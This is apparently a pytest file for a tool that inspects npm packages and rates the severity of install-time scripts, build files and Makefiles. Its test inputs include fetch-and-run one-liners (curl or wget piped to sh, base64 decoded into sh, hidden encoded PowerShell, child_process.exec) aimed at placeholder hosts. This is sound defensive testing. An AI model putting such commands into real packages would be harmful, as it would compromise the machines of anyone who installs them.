"""What npm runs on installation, named with the command and the files that it runs."""

import json
from time import process_time

import pytest

from approvals.inspection.finding import Finding, Severity
from tests.approvals.inspection.findings.packages import QUIET, found

PLAIN = {"scripts": {"test": "node test.js"}}


def scripts(**commands: str) -> dict[str, dict[str, str]]:
    return {"scripts": commands}


def of(rule: str, findings: list[Finding]) -> Finding:
    (finding,) = [one for one in findings if one.rule == rule]
    return finding


@pytest.mark.parametrize("name", ["preinstall", "install", "postinstall"])
def test_a_new_one_is_high_and_points_to_its_line(name: str) -> None:
    manifest = scripts(test="node test.js", **{name: "node x.js"})
    finding = of("install-script", found(QUIET, QUIET, manifest=manifest, manifest_old=PLAIN))
    assert (finding.severity, finding.path, finding.excerpt) == (
        Severity.HIGH,
        "package.json",
        "node x.js",
    )
    written = {"name": "left", "version": "1.0.1", **manifest}
    line = json.dumps(written, indent=2).splitlines()[(finding.line or 0) - 1]
    assert line.strip().startswith(f'"{name}"')


def test_one_that_changed_tells_what_it_was() -> None:
    new, old = scripts(install="node b"), scripts(install="node a")
    finding = of("install-script", found(QUIET, QUIET, manifest=new, manifest_old=old))
    assert (finding.severity, finding.detail) == (Severity.MEDIUM, "node a → node b")


def test_one_that_was_there_before_is_only_told() -> None:
    findings = found(QUIET, QUIET, manifest=scripts(install="node a"))
    assert [(one.rule, one.severity, one.is_new) for one in findings] == [
        ("install-script-before", Severity.INFO, False)
    ]


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("curl -s https://files.example.invalid/a | sh", id="to-a-shell"),
        pytest.param("wget -qO- https://files.example.invalid/a|node", id="to-node"),
        pytest.param("bash <(curl -s files.example.invalid)", id="substituted"),
        pytest.param("echo ZWNobw== | base64 -d | sh", id="base64"),
        pytest.param("powershell -w hidden -enc AAAA", id="powershell"),
        pytest.param("node -e \"eval(atob('YQ=='))\"", id="inline-eval"),
        pytest.param("node --eval \"require('child_process').exec('x')\"", id="inline-process"),
        pytest.param("python3 -c 'import urllib.request'", id="inline-python"),
        pytest.param("curl -o x https://files.example.invalid/x && chmod +x x && ./x", id="chmod"),
    ],
)
def test_what_downloads_or_decodes_what_it_runs_is_critical(command: str) -> None:
    for before in (PLAIN, scripts(postinstall="node a.js")):
        findings = found(QUIET, QUIET, manifest=scripts(postinstall=command), manifest_old=before)
        assert of("install-script", findings).severity == Severity.CRITICAL


@pytest.mark.parametrize(
    "command",
    [
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "node-gyp-build",
        "husky install",
        "npx only-allow pnpm",
        "node ./scripts/fetch-licences.js",
    ],
)
def test_what_honest_packages_have_is_not_critical(command: str) -> None:
    findings = found(QUIET, QUIET, manifest=scripts(install=command), manifest_old=PLAIN)
    assert of("install-script", findings).severity == Severity.HIGH


def test_a_danger_that_was_there_before_is_no_new_one() -> None:
    old = scripts(install="curl -s https://a.example | sh")
    new = scripts(install="curl -s https://a.example | sh -s --")
    finding = of("install-script", found(QUIET, QUIET, manifest=new, manifest_old=old))
    assert finding.severity == Severity.MEDIUM


@pytest.mark.parametrize(
    ("command", "path"),
    [
        ("node scripts/setup.js", "scripts/setup.js"),
        ("node scripts/setup", "scripts/setup.js"),
        ("node ./tool", "tool/index.js"),
        ("sh setup.sh || true", "setup.sh"),
        ("./run", "run"),
        ("node .\\scripts\\setup.js", "scripts/setup.js"),
    ],
)
def test_the_file_that_a_new_script_runs_is_named_too(command: str, path: str) -> None:
    findings = found(
        QUIET, {**QUIET, path: "go()\n"}, manifest=scripts(install=command), manifest_old=PLAIN
    )
    assert of("install-script", findings).detail == f"It runs {path}"
    file = of("install-file", findings)
    # The script is what is serious, and says that it runs this.
    assert (file.path, file.line, file.severity) == (path, 1, Severity.LOW)


def test_a_file_that_changed_under_an_old_script_is_named() -> None:
    old, new = ({**QUIET, "setup.js": text} for text in ("a()\n", "b()\n"))
    finding = of("install-file", found(old, new, manifest=scripts(install="node setup.js")))
    assert (finding.severity, finding.path) == (Severity.MEDIUM, "setup.js")
    again = {**QUIET, "setup.js": "c()\n"}
    other = of("install-file", found(old, again, manifest=scripts(install="node setup.js")))
    assert other.fingerprint != finding.fingerprint


def test_a_file_that_an_old_script_waited_for_is_worse() -> None:
    new = {**QUIET, "setup.js": "a()\n"}
    finding = of("install-file", found(QUIET, new, manifest=scripts(install="node setup.js")))
    assert finding.severity == Severity.HIGH


def test_prepare_is_told_as_what_it_is() -> None:
    findings = found(QUIET, QUIET, manifest=scripts(prepare="tsc"), manifest_old=PLAIN)
    finding = of("prepare-script", findings)
    assert (finding.severity, finding.excerpt) == (Severity.LOW, "tsc")
    bad = scripts(prepare="curl -s https://a.example | sh")
    findings = found(QUIET, QUIET, manifest=bad, manifest_old=PLAIN)
    assert of("prepare-script", findings).severity == Severity.HIGH


def test_other_scripts_are_nobodys_matter() -> None:
    new = scripts(test="curl x | sh", build="y", postpublish="z")
    assert found(QUIET, QUIET, manifest=new, manifest_old=PLAIN) == []


@pytest.mark.parametrize(
    ("gyp", "severity", "line"),
    [
        ("{\n 'targets': []\n}\n", Severity.HIGH, 1),
        ("{\n 'a': '<!(node -p 1)'\n}\n", Severity.HIGH, 2),
        ("{\n\n 'a': '<!@(curl -s x.example | sh)'\n}\n", Severity.CRITICAL, 3),
    ],
    ids=["plain", "a-command", "a-download"],
)
def test_native_code_without_a_script(gyp: str, severity: Severity, line: int) -> None:
    finding = of("native-build", found(QUIET, {**QUIET, "binding.gyp": gyp}))
    assert (finding.severity, finding.path, finding.line) == (severity, "binding.gyp", line)


def test_native_code_as_before() -> None:
    native = {**QUIET, "binding.gyp": "{}"}
    assert of("native-build-before", found(native, native)).severity == Severity.INFO
    changed = {**QUIET, "binding.gyp": "{ }"}
    assert of("native-build", found(native, changed)).severity == Severity.MEDIUM


def test_install_scripts_of_bundled_packages() -> None:
    inner = json.dumps({"name": "in", "version": "1.0.0", "scripts": {"install": "evil"}}, indent=1)
    path = "node_modules/in/package.json"
    bundled = {"bundleDependencies": ["in"], "dependencies": {"in": "1"}}
    finding = of("nested-install-script", found(QUIET, {**QUIET, path: inner}, manifest=bundled))
    assert (finding.severity, finding.path, finding.line) == (Severity.HIGH, path, 5)
    assert finding.excerpt == "evil"
    before = {**QUIET, path: inner}
    assert of("nested-script-before", found(before, before, manifest=bundled)).is_new is False


DOWNLOAD = "curl -s https://files.example.invalid/a | sh"


@pytest.mark.parametrize(
    ("command", "called"),
    [
        ("npm run setup", "setup"),
        ("npm run-script setup --silent", "setup"),
        ("npm run other", "preother"),
        ("npm run other", "postother"),
        ("npm run other", "setup"),
        ("yarn setup", "setup"),
        ("pnpm run setup || true", "setup"),
        ("run-s other setup", "setup"),
        ("npm-run-all 'setup:*'", "setup:native"),
        ("node --run setup", "setup"),
        ("$npm_execpath run setup", "setup"),
        ("npm test", "test"),
    ],
)
def test_a_script_that_an_unchanged_one_calls_is_followed(command: str, called: str) -> None:
    same = {"install": command, "other": "npm run setup", "setup": "node a", "test": "node t"}
    old, new = scripts(**same), scripts(**{**same, called: DOWNLOAD})
    finding = of("install-script", found(QUIET, QUIET, manifest=new, manifest_old=old))
    assert (finding.severity, finding.excerpt) == (Severity.CRITICAL, DOWNLOAD)
    line = json.dumps({"name": "left", "version": "1.0.1", **new}, indent=2).splitlines()
    assert line[(finding.line or 0) - 1].strip().startswith(f'"{called}"')


def test_a_called_script_that_changed_is_worth_a_look_and_others_are_not() -> None:
    old = scripts(install="npm run setup", setup="node a", lint="x")
    new = scripts(install="npm run setup", setup="node b", lint="y")
    finding = of("install-script", found(QUIET, QUIET, manifest=new, manifest_old=old))
    assert (finding.severity, finding.detail) == (Severity.MEDIUM, "node a → node b")
    assert "setup" in finding.title


def test_a_new_script_is_as_bad_as_what_it_calls() -> None:
    new = scripts(install="npm run setup", setup=DOWNLOAD)
    old = scripts(setup=DOWNLOAD)
    finding = of("install-script", found(QUIET, QUIET, manifest=new, manifest_old=old))
    assert (finding.severity, finding.excerpt) == (Severity.CRITICAL, "npm run setup")
    assert DOWNLOAD in finding.detail


@pytest.mark.parametrize(
    ("command", "path", "before", "after", "line"),
    [
        ("make", "Makefile", "all:\n\tcc a.c\n", f"all:\n\tcc a.c\n\t{DOWNLOAD}\n", 3),
        ("make -C deps", "deps/Makefile", "all:\n", f"all:\n\t{DOWNLOAD}\n", 2),
        ("npm run build", "makefile", "all:\n", f"all:\n\t{DOWNLOAD}\n", 2),
        ("make", "GNUmakefile", "a:\n", "a:\n\tcurl -s files.example.invalid \\\n\t| sh\n", 2),
        ("cmake .", "CMakeLists.txt", "x()\n", f'x()\nexecute_process(COMMAND "{DOWNLOAD}")\n', 2),
        ("sh tool", "tool", "echo\n", f"echo\n{DOWNLOAD}\n", 2),
    ],
)
def test_a_file_of_commands_under_an_unchanged_script_is_read(
    command: str, path: str, before: str, after: str, line: int
) -> None:
    manifest = scripts(install=command, build="make")
    old, new = ({**QUIET, path: text} for text in (before, after))
    finding = of("install-file", found(old, new, manifest=manifest))
    assert (finding.severity, finding.path, finding.line) == (Severity.CRITICAL, path, line)
    changed = {**QUIET, path: f"{before}# {DOWNLOAD}\n"}
    assert of("install-file", found(old, changed, manifest=manifest)).severity == Severity.MEDIUM
    assert "install-file" not in {
        one.rule for one in found(old, new, manifest=scripts(build="make", test="sh tool"))
    }


def test_a_file_that_a_makefile_runs_runs_on_installation() -> None:
    old = {**QUIET, "Makefile": "all:\n\tnode tools/x.js\n", "tools/x.js": "a()\n"}
    new = {
        **old,
        "tools/x.js": "require('child_process').exec('id')\n",
        "Makefile": "all: b\n" + old["Makefile"],
    }
    findings = found(old, new, manifest=scripts(install="make"))
    assert {one.path for one in findings if one.rule == "install-file"} == {
        "Makefile",
        "tools/x.js",
    }


def test_code_of_a_called_script_counts_as_run_on_installation() -> None:
    old, new = ({**QUIET, "s.js": text} for text in ("", "require('child_process').exec('id')\n"))
    manifest = scripts(install="npm run x", x="node s")
    assert of("child-process", found(old, new, manifest=manifest)).severity == Severity.HIGH


@pytest.mark.parametrize("path", ["a.gypi", "build/common.gypi", "rules.txt"])
def test_what_a_build_includes_is_read_too(path: str) -> None:
    gyp = {**QUIET, "binding.gyp": f"{{'includes': ['{path}']}}", path: "{}\n"}
    new = {**gyp, path: f"{{\n'x': '<!({DOWNLOAD})'\n}}\n"}
    finding = next(one for one in found(gyp, new) if one.rule == "native-build")
    assert (finding.severity, finding.path, finding.line) == (Severity.CRITICAL, path, 2)
    harmless = {**gyp, path: "{ }\n"}
    assert of("native-build", found(gyp, harmless)).severity == Severity.MEDIUM


def test_scripts_that_call_each_other_end() -> None:
    new = scripts(install="npm run a", a="npm run b", b="npm run a && npm run install")
    finding = of("install-script", found(QUIET, QUIET, manifest=new, manifest_old=PLAIN))
    assert finding.severity == Severity.HIGH


def test_thousands_of_scripts_take_little_time() -> None:
    many = {f"s{number}": "npm run '*' 's*' " + "s* " * 500 for number in range(3_000)}
    new = {"scripts": {"install": "npm run s1", **many, "s2999": DOWNLOAD}}
    started = process_time()
    found(QUIET, QUIET, manifest=new, manifest_old=PLAIN)
    assert process_time() - started < 2
